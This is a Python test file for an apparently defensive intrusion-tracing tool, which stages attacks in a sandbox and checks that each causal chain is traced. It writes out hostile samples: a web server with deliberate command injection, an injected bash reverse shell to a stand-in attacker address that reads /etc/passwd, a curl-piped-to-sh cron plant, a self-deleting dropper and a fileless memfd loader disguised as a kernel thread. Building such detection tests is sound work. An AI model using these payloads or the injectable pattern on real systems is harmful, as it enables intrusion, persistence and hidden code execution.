# SPDX-License-Identifier: GPL-3.0-or-later
"""Intrusions, acted out: each has its benign twin, and somebody who had nothing to do with it."""
import os

from stage import ATTACKER, CDN, CURL, OFFICE, StageCase, WEB

WEB_SERVER = """#!/usr/bin/python3 -IS
import socket, subprocess
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(('0.0.0.0', 8000))
listener.listen()
while True:
    client = listener.accept()[0]
    word = client.recv(65536).split()[1].decode().partition('?host=')[2].replace('%20', ' ')
    answer = subprocess.run('/bin/echo ping ' + word, shell=True, capture_output=True).stdout
    client.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\n' + answer)
    client.close()
"""

INSTALL = """#!/bin/sh
echo '#!/bin/sh' > /srv/jobs/rotate
echo '/usr/bin/id -un' >> /srv/jobs/rotate
chmod 755 /srv/jobs/rotate
"""

# Fetches a program and runs it without ever writing it to a disk.
LOADER = """#!/usr/bin/python3 -IS
import os, socket
source = socket.create_connection(('203.0.113.66', 8443))
program = os.memfd_create('kworker', 0)
while piece := source.recv(65536):
    os.write(program, piece)
if os.fork() == 0:
    os.execve(f'/proc/self/fd/{program}', ['[kworker/0:1]', '1001'], {})
os.wait()
"""


def content(path):
    with open(path, "rb") as file:
        return file.read()


class Intrusions(StageCase):
    def web_server(self):
        """A server that runs what a request says; its process."""
        self.stage.write("/srv/app/server.py", WEB_SERVER, 0o755)
        server = self.service("webapp", ["/srv/app/server.py"], user="www-data")
        self.stage.listens(8000)
        return self.process(server.pid, lambda row: row["comm"] == "server.py")

    def visit(self, word):
        """Somebody on the host asks the web server; the process."""
        visitor = self.service("monitor", [CURL, "-s", f"http://{WEB}:8000/?host={word}"])
        visitor.wait()
        return self.ended(visitor.pid)

    def act_reverse_shell(self):
        attacker = self.world.listen(4444)
        request = self.world.connect(8000)
        request.sendall(b"GET /?host=;/bin/bash%20-c%20'exec%20/bin/bash%20-i%20"
                        b">&/dev/tcp/203.0.113.66/4444%200>&1' HTTP/1.0\r\n\r\n")
        shell = attacker.accept()[0]
        shell.settimeout(20)
        shell.sendall(b"/usr/bin/id; /usr/bin/tail -n 3 /etc/passwd\nexit\n")
        while shell.recv(65536):
            pass
        request.recv(65536)

    def test_reverse_shell(self):
        server = self.web_server()
        self.assertEqual(self.world.get("/?host=192.0.2.1"), b"ping 192.0.2.1\n")
        before = self.visit("before")
        self.act_reverse_shell()
        after = self.visit("after")
        tail = self.ran("/usr/bin/tail -n 3%", lambda row: row["ended_at"])
        bash, sh = self.ran("/bin/bash -i"), self.ran("/bin/sh -c /bin/echo ping ;%")
        back = self.reached("backward", tail)
        self.check_chain(back, tail, "fork", bash, "fork", sh, "fork", server)
        benign = [self.ran("/bin/sh -c /bin/echo ping " + word) for word in ("192.0.2.1", "before")]
        self.check_not(back, after)
        # the shell reads from and writes to a connection that it has made to the attacker
        run = self.one(self.store.rows("SELECT * FROM execs WHERE process_id = ? AND argc = 2",
                                       bash["id"]), "execs of the shell")
        out = self.one(self.store.rows("SELECT * FROM connections WHERE process_id = ?",
                                       bash["id"]), "connections of the shell")
        self.same(out, direction="out", remote_address=ATTACKER, remote_port=4444)
        self.same(run, **dict.fromkeys(("stdin", "stdout", "stderr"), f"socket:[{out['inode']}]"))
        # the request came in before that
        into = self.store.rows("SELECT * FROM connections WHERE process_id = ? AND "
                               "direction = 'in' AND remote_address = ? ORDER BY id", server["id"],
                               ATTACKER)
        self.assertEqual(len(into), 2)
        self.assertLess(into[1]["established_at"], sh["started_at"])
        self.assertLess(sh["started_at"], into[1]["ended_at"])
        self.check_story(
            self.story("why", tail["id"]),
            ["trace", "service webapp.service"],
            ["server.py", "www-data", "listened on tcp 0.0.0.0 port 8000"],
            ["server.py", "took a connection from", ATTACKER],
            ["server.py", "ran", "/bin/sh -c", sh["pid"]],
            ["sh", "ran", "/bin/bash", bash["pid"]],
            ["bash", "connected to", f"{ATTACKER} port 4444"],
            ["bash", "input, output and errors on the connection to", ATTACKER, "reverse shell"],
            ["bash", "ran", "/usr/bin/tail -n 3 /etc/passwd", tail["pid"]],
            lacks=[before, after, *benign])
        # and nothing that the shell did led to who came later, nor to what they had run
        ahead = self.reached("forward", bash)
        self.assertIn(tail["id"], ahead)
        self.check_not(ahead, server, before, after, *benign)

    def test_curl_into_a_shell(self):
        """Another user's cron runs later what it wrote."""
        self.world.pages["/install.sh"] = INSTALL.encode()
        self.world.pages["/news"] = b"nothing new"
        os.makedirs(self.stage.path("/srv/jobs"), exist_ok=True)
        os.chmod(self.stage.path("/srv/jobs"), 0o777)
        self.stage.write("/srv/jobs/clean", "#!/bin/sh\n/bin/uname -n\n", 0o755)
        ana, ben = self.login("ana"), self.login("ben")
        ben.run("curl -s http://cdn.example.net/news > news; cat news")
        ana.run("curl -s http://cdn.example.net/install.sh | sh")
        late = self.login("ops")
        late.run("curl -s http://cdn.example.net/news | cat")
        self.cron("games /srv/jobs/rotate", "games /srv/jobs/clean")
        job, clean = (self.ran(f"/usr/bin/{what}" if what.startswith("id") else f"/bin/{what}",
                               lambda row: row["ended_at"]) for what in ("id -un", "uname -n"))
        self.same(job, user="games")
        script = self.ran("/bin/sh /srv/jobs/rotate")
        curl = self.ran("curl -s http://cdn.example.net/install.sh")
        writer = self.one(self.store.rows(
            "SELECT p.* FROM files AS f JOIN processes AS p ON p.id = f.process_id "
            "WHERE f.path = '/srv/jobs/rotate' AND f.op = 'write' AND f.at >= ?", self.began),
            "writers of the job")
        self.same(writer, cmdline="sh")
        back = self.reached("backward", job)
        self.check_chain(back, job, "fork", script, "file", writer, "pipe", curl)
        bash = self.process(ana.pid)
        self.same(curl, parent_id=bash["id"])
        self.assertIn(bash["id"], back)
        others = [self.process(session.pid) for session in (ben, late)]
        self.check_not(back, *others, clean)
        self.check_not(self.reached("backward", clean), bash, curl, writer)
        self.check_story(
            self.story("why", job["id"]),
            ["cron job of games"], ["ssh login of ana from", OFFICE],
            ["sshd", "took a connection from", OFFICE],
            ["bash", "ana", "ran", "curl -s http://cdn.example.net/install.sh", curl["pid"]],
            ["curl", "connected to", "cdn.example.net", CDN],
            ["curl", "wrote into a pipe", "sh", writer["pid"]],
            ["sh", "wrote /srv/jobs/rotate"],
            ["cron", "ran", "/srv/jobs/rotate", "as games"],
            ["ran the script /srv/jobs/rotate, which sh", "had written"],
            ["ran", "/usr/bin/id -un", job["pid"]],
            ["went no further than cron"],
            lacks=[*others, clean, "/news"])
        # where it came from, by name and address, and who had logged in
        out = self.one(self.store.rows("SELECT * FROM connections WHERE process_id = ? AND "
                                       "protocol = 'tcp'", curl["id"]), "connections of curl")
        self.same(out, remote_address=CDN, remote_name="cdn.example.net", remote_port=80)
        trace = self.one(self.store.rows("SELECT * FROM traces WHERE id = ?", bash["trace_id"]),
                         "ana's session")
        self.same(trace, kind="login", user="ana", title=f"ssh login of ana from {OFFICE}")
        # all that the session has led to
        root = self.one(self.store.rows("SELECT * FROM processes WHERE id = ?",
                                        trace["root_process_id"]), "the session's first process")
        ahead = self.reached("forward", root)
        self.assertIn(job["id"], ahead)
        self.check_not(ahead, clean)
        self.check_story(
            self.story("impact", f"trace:{trace['id']}"),
            ["bash", "ran", "curl"], ["sh", "wrote /srv/jobs/rotate"],
            ["ran the script /srv/jobs/rotate"], ["/usr/bin/id -un"],
            lacks=[clean, *others])

    def test_dropper(self):
        """It deletes itself and runs on."""
        self.world.pages["/tool"] = content("/bin/sleep")
        ben, ana = self.login("ben", ATTACKER), self.login("ana")
        ana.run("cp /bin/sleep ./pause; ./pause 1002 & true")
        ben.run("cd /var/tmp; curl -s -o .x http://cdn.example.net/tool; chmod +x .x")
        ben.run("./.x 1003 & true")
        tool = self.ran("./.x 1003", lambda row: row["exe"] and "/.x" in row["exe"])
        ben.run("rm .x")
        self.same(tool, ended_at=None, exe="/var/tmp/.x")
        curl = self.ran("curl -s -o .x%")
        back = self.reached("backward", tool)
        self.check_chain(back, tool, "file", curl)
        edge = self.one(self.store.rows("SELECT * FROM edges WHERE dst = ? AND kind = 'file'",
                                        tool["id"]), "file edges")
        out = self.one(self.store.rows("SELECT * FROM connections WHERE id = ?",
                                       edge["connection_id"]), "the connection")
        self.same(out, process_id=curl["id"], remote_name="cdn.example.net", remote_address=CDN)
        acts = self.store.wait("SELECT op FROM files WHERE (device, inode) = (SELECT device, inode "
                               "FROM files WHERE id = ?) ORDER BY at", edge["file_id"],
                               until=lambda rows: rows and rows[-1]["op"] == "unlink")
        self.assertEqual([row["op"] for row in acts], ["write", "chmod", "unlink"])
        pause = self.ran("./pause 1002", lambda row: row["exe"] and row["exe"].endswith("pause"))
        self.check_not(back, pause, self.process(ana.pid))
        self.check_not(self.reached("backward", pause), curl, self.process(ben.pid))
        self.check_story(
            self.story("story", tool["id"]),
            ["ssh login of ben from", ATTACKER],
            ["bash", "ran", "curl -s -o .x"],
            ["curl", "wrote /var/tmp/.x", "cdn.example.net", CDN],
            ["bash", "ran", "./.x 1003"],
            ["ran /var/tmp/.x, which curl", "had written"],
            ["lost its program /var/tmp/.x, deleted by rm", "still running"],
            lacks=[pause, self.process(ana.pid)])
        ben.run("kill %1")
        ana.run("kill %1")

    def test_memory_file_from_a_connection(self):
        program = self.world.listen(8443)
        self.stage.write("/opt/agent/update.py", LOADER, 0o755)
        loader = self.service("agent", ["/opt/agent/update.py"], user="deploy")
        with program.accept()[0] as sock:
            sock.sendall(content("/bin/sleep"))
        hidden = self.ran("[kworker/0:1] 1001", lambda row: row["exec_count"] >= 1)
        run = self.one(self.store.wait("SELECT * FROM execs WHERE process_id = ? AND memfd",
                                       hidden["id"]), "execs of memory")
        self.same(run, memfd=1, error=None)
        self.same(hidden, ended_at=None)
        source = self.process(loader.pid)
        edge = self.one(self.store.wait("SELECT * FROM edges WHERE dst = ? AND kind = 'file'",
                                        hidden["id"]), "file edges")
        self.same(edge, src=source["id"])
        out = self.one(self.store.rows("SELECT * FROM connections WHERE id = ?",
                                       edge["connection_id"]), "what fed it")
        self.same(out, remote_address=ATTACKER, remote_port=8443, process_id=source["id"])
        self.check_chain(self.reached("backward", hidden), hidden, "fork", source)
        self.check_story(
            self.story("why", hidden["id"]),
            ["service agent.service"],
            ["update.py", "deploy", "/opt/agent/update.py", "began"],
            ["update.py", "wrote into memory", f"fed by the connection to {ATTACKER} port 8443"],
            ["[kworker/0:1] 1001", hidden["pid"], "in memory only"])
